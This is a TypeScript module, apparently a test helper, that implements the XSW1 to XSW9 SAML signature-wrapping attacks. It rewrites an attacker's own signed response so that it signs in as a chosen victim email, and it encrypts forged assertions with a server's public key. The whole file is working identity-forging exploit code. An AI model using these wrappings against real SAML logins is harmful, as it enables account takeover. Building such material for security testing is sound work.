import { createCipheriv, publicEncrypt, randomBytes } from 'node:crypto'
import { DOMParser, XMLSerializer } from '@xmldom/xmldom'
import { pem } from './identity-provider.ts'

/**
 * Signature wrapping as described by Somorovsky et al. ("On Breaking SAML: Be Whoever You Want to Be", USENIX Security
 * 2012), with the numbering that tools use: the signed part stays in the document, and a forged one is placed where a
 * careless server looks.
 */
export type Wrapping = (response: Element, evil: Evil) => void

interface Evil {
  /** Replaces the identity: another name, address and id. */
  readonly forge: (element: Element) => Element
}

const only = (root: Element, name: string): Element => {
  const found = Array.from(root.getElementsByTagName('*')).find(({ localName }) => localName === name)
  if (found === undefined) throw new Error(`There is no ${name}.`)
  return found
}
const clone = (element: Element) => element.cloneNode(true) as Element
const without = (element: Element) => {
  const signature = Array.from(element.childNodes).find((one) => (one as Element).localName === 'Signature')
  if (signature) element.removeChild(signature)
  return element
}
const append = (parent: Element, name: string, child: Element) => {
  const wrapper = parent.ownerDocument.createElementNS('http://www.w3.org/2000/09/xmldsig#', `ds:${name}`)
  wrapper.appendChild(child)
  parent.appendChild(wrapper)
}

/** For responses whose message is signed. */
export const messageWrappings: Readonly<Record<string, Wrapping>> = {
  'XSW1: a forged response around the signed one, after its signature': (response, { forge }) => {
    const original = without(clone(response))
    forge(response)
    only(response, 'Signature').appendChild(original)
  },
  'XSW2: the signed response before the signature of a forged one': (response, { forge }) => {
    const original = without(clone(response))
    forge(response)
    response.insertBefore(original, only(response, 'Signature'))
  },
}

/** For responses whose assertion is signed. */
export const assertionWrappings: Readonly<Record<string, Wrapping>> = {
  'XSW3: a forged assertion before the signed one': (response, { forge }) => {
    const signed = only(response, 'Assertion')
    response.insertBefore(forge(without(clone(signed))), signed)
  },
  'XSW4: the signed assertion within a forged one': (response, { forge }) => {
    const signed = only(response, 'Assertion')
    const evil = forge(without(clone(signed)))
    response.replaceChild(evil, signed)
    evil.appendChild(signed)
  },
  'XSW5: the signature in a forged assertion, the signed one behind it': (response, { forge }) => {
    const signed = only(response, 'Assertion')
    const original = without(clone(signed))
    forge(signed)
    response.appendChild(original)
  },
  'XSW6: the signed assertion within the signature of a forged one': (response, { forge }) => {
    const signed = only(response, 'Assertion')
    const original = without(clone(signed))
    forge(signed)
    only(signed, 'Signature').appendChild(original)
  },
  'XSW7: a forged assertion among extensions': (response, { forge }) => {
    const signed = only(response, 'Assertion')
    const extensions = response.ownerDocument.createElementNS(
      'urn:oasis:names:tc:SAML:2.0:protocol',
      'samlp:Extensions',
    )
    extensions.appendChild(forge(without(clone(signed))))
    response.insertBefore(extensions, signed)
  },
  'XSW8: the signed assertion in an object of the signature of a forged one': (response, { forge }) => {
    const signed = only(response, 'Assertion')
    const original = without(clone(signed))
    forge(signed)
    append(only(signed, 'Signature'), 'Object', original)
  },
  'XSW9: a forged assertion with the same id before the signed one': (response, { forge }) => {
    const signed = only(response, 'Assertion')
    const evil = forge(without(clone(signed)))
    evil.setAttribute('ID', signed.getAttribute('ID') ?? '')
    response.insertBefore(evil, signed)
  },
}

/** Wraps an attacker's own valid response so that it would sign in `email`. */
export function wrapped(base64: string, wrap: Wrapping, email: string): string {
  const document = new DOMParser().parseFromString(Buffer.from(base64, 'base64').toString(), 'text/xml')
  const forge = (element: Element): Element => {
    element.setAttribute('ID', '_evil')
    for (const one of Array.from(element.getElementsByTagName('*'))) {
      if (one.localName === 'NameID') one.textContent = email
      if (one.localName === 'AttributeValue' && (one.textContent ?? '').includes('@')) one.textContent = email
    }
    return element
  }
  wrap(document.documentElement, { forge })
  return Buffer.from(new XMLSerializer().serializeToString(document)).toString('base64')
}

const XENC = 'http://www.w3.org/2001/04/xmlenc#'

/**
 * Encrypts the part after the status of a response. The encryption key is public, in the server's metadata, so an
 * attacker can encrypt a forged assertion.
 */
export function withEncryptedAssertion(base64: string): string {
  const xml = Buffer.from(base64, 'base64').toString()
  const [, before = '', plain = '', after = ''] = /^(.*<\/samlp:Status>)(.*)(<\/samlp:Response>)$/s.exec(xml) ?? []
  const [key, iv] = [randomBytes(32), randomBytes(12)]
  const cipher = createCipheriv('aes-256-gcm', key, iv)
  const bytes = Buffer.concat([iv, cipher.update(plain), cipher.final(), cipher.getAuthTag()])
  const data = (name: string, algorithm: string, inside: string, value: Buffer) =>
    `<xenc:${name} xmlns:xenc="${XENC}" Type="${XENC}Element"><xenc:EncryptionMethod Algorithm="${algorithm}"/>${inside}<xenc:CipherData><xenc:CipherValue>${value.toString('base64')}</xenc:CipherValue></xenc:CipherData></xenc:${name}>`
  const sealedKey = data('EncryptedKey', `${XENC}rsa-oaep-mgf1p`, '', publicEncrypt(pem('sp', 'cert'), key))
  const keyInfo = `<ds:KeyInfo xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${sealedKey}</ds:KeyInfo>`
  const sealed = data('EncryptedData', 'http://www.w3.org/2009/xmlenc11#aes256-gcm', keyInfo, bytes)
  const whole = `${before}<saml:EncryptedAssertion>${sealed}</saml:EncryptedAssertion>${after}`
  return Buffer.from(whole).toString('base64')
}
